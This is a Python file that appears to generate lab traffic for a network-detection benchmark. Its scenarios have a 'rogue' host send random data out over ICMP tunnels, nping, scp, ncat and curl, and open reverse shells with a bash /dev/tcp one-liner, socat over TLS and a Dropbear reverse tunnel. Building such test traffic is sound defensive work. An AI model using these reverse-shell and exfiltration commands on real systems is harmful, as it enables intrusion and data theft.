"""Report half of the second draw: ways out and what is taken along, by other tools."""

from functools import partial

from benchmarks.quality.halves import HALVES
from benchmarks.quality.lab import house
from benchmarks.quality.lab.routine import SSH
from benchmarks.quality.lab.scenario import scenario
from benchmarks.quality.lab.stage import Stage

scene = partial(scenario, half=HALVES[1])
ROGUE = house.ROGUE
CONTROL, DROP = house.SITES[house.CONTROL], house.SITES[house.DROP]


@scene("icmptunnel", "icmptunnel", by=(ROGUE,))
def icmptunnel(stage: Stage) -> None:
    """IP inside of pings (DhavalKapil/icmptunnel): pages and an upload."""
    for side, number in (("server", 1), ("client", 2)):
        stage.services.file(
            f"{side}.sh",
            f"ip address add 10.0.1.{number}/24 dev tun0; ip link set tun0 mtu 1400 up\n"
            + ("sysctl -q -w net.ipv4.icmp_echo_ignore_all=1\n" if side == "server" else ""),
        )
    server = stage.start("outpost", "icmptunnel", "-s", "10.0.1.1")
    client = stage.start(ROGUE, "icmptunnel", "-c", CONTROL)
    stage.script(
        ROGUE,
        "sleep 2; head -c 300K /dev/urandom > some.bin; curl -s -m 15 -T some.bin http://10.0.1.1/up;"
        "for i in 1 2 3 4; do curl -s -m 5 http://10.0.1.1/page$i; done",
        timeout_s=45,
    )
    for pid in (client, server):
        stage.net.stop(pid)
    stage.at("outpost", "sysctl", "-q", "-w", "net.ipv4.icmp_echo_ignore_all=0")


@scene("icmp-pieces", "nping", by=(ROGUE,))
def icmp_pieces(stage: Stage) -> None:
    """A file of 130 KB in pings, a hundred pings at a time."""
    for _ in range(3):
        for _ in range(100):
            words = ("--icmp", "-c", 1, "--data", stage.random.randbytes(440).hex(), CONTROL)
            stage.at(ROGUE, "nping", "-q", "--delay", "0", *words, timeout_s=3)
        stage.wait(60)


@scene("scp-out", "scp", by=(ROGUE,))
def scp_out(stage: Stage) -> None:
    """Sixty megabytes over a shell."""
    stage.script(ROGUE, "head -c 60M /dev/urandom > loot.bin")
    stage.at(ROGUE, "scp", *SSH[1:], "-i", stage.folder / "key", "loot.bin", f"root@{DROP}:/dev/null", timeout_s=60)


@scene("ncat-out", "ncat", by=(ROGUE,))
def ncat_out(stage: Stage) -> None:
    """Forty megabytes into an open connection, to an address that has no name."""
    server = stage.start("outpost", "sh", "-c", "ncat -l 9001 --recv-only > /dev/null")
    stage.script(ROGUE, f"head -c 40M /dev/urandom | ncat --send-only {DROP} 9001", timeout_s=60)
    stage.net.stop(server)


@scene("curl-forms", "curl", by=(ROGUE,))
def curl_forms(stage: Stage) -> None:
    """Six files of eight megabytes as forms of a web page, within half an hour."""
    for number in range(6):
        stage.script(
            ROGUE, f"head -c 8M /dev/urandom > f{number}.bin; curl -s -F file=@f{number}.bin http://{DROP}/up", 30
        )
        stage.wait(300)


@scene("socat-shell", "socat", by=(ROGUE,))
def socat_shell(stage: Stage) -> None:
    """A shell for somebody outside inside of TLS, for half an hour."""
    pair = f"cert={stage.folder}/site.pem,key={stage.folder}/site.key,verify=0"
    orders = stage.folder / "socat-orders"
    stage.script("outpost", f"mkfifo {orders}")
    listening = stage.start(
        "outpost", "sh", "-c", f"exec 3<>{orders}; socat OPENSSL-LISTEN:8443,reuseaddr,{pair} - <&3"
    )
    shell = stage.start(ROGUE, "socat", f"OPENSSL:{CONTROL}:8443,verify=0", "EXEC:/bin/sh")
    for order in ("id", "ip neighbour", "ls -lR /etc", "ps aux", "cat /etc/services", "ss -tan") * 5:
        stage.script("outpost", f"echo '{order}' > {orders}", timeout_s=5)
        stage.wait(60)
    for pid in (shell, listening):
        stage.net.stop(pid)


@scene("bash-shell", "bash", "ncat", by=(ROGUE,))
def bash_shell(stage: Stage) -> None:
    """A shell's own connection to a port of the web, a quarter of an hour."""
    orders = stage.folder / "bash-orders"
    stage.script("outpost", f"mkfifo {orders}")
    listening = stage.start("outpost", "sh", "-c", f"exec 3<>{orders}; ncat -l 8081 <&3")
    shell = stage.start(ROGUE, "bash", "-c", f"bash -i >& /dev/tcp/{CONTROL}/8081 0>&1")
    for order in ("whoami", "ls -l /usr/bin", "cat /proc/cpuinfo", "df", "ps aux") * 3:
        stage.script("outpost", f"echo '{order}' > {orders}", timeout_s=5)
        stage.wait(60)
    for pid in (shell, listening):
        stage.net.stop(pid)


@scene("dropbear-reverse", "dbclient", by=(ROGUE,))
def dropbear_reverse(stage: Stage) -> None:
    """A way in opened from inside by Dropbear's client on a port of the web, used for three quarters of an hour."""
    sshd = f"/usr/sbin/sshd -D -f {stage.folder}/sshd_config -p 8022 -e"
    server = stage.start("outpost", "sh", "-c", sshd)
    stage.script(ROGUE, "dropbearkey -t ed25519 -f drop.key | grep ^ssh >> key.pub")
    pid = stage.start(ROGUE, "dbclient", "-y", "-N", "-p", 8022, "-i", "drop.key", "-R", "8100:10.77.0.14:80",
                      f"root@{CONTROL}")  # fmt: skip
    for number in range(20):
        stage.at("outpost", "curl", "-s", "-m", 5, f"http://127.0.0.1:8100/page{number}")
        stage.wait(130)
    for one in (pid, server):
        stage.net.stop(one)
